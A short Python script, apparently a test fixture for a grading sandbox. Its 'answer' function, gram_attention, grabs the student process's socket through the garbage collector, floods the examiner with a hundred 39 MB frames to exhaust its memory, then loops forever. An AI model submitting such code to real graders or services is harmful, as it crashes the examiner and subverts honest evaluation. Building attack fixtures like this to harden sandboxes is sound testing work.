# Sends one message of a hundred frames of 39 MB each, to fill the examiner's memory before it is read.
# %% attack
import gc

from sandbox.protocol.channel import QUESTION
from sandbox.inside.main_loop import Student

student = next(thing for thing in gc.get_objects() if isinstance(thing, Student))
frame = bytes(39_000_000)
# %% attack answer gram_attention
def gram_attention(X):
    import struct

    student._channel.socket.sendall(struct.pack("!cII100I", QUESTION, student._number, 100, *[len(frame)] * 100))
    for _ in range(100):
        student._channel.socket.sendall(frame)
    while True:
        pass
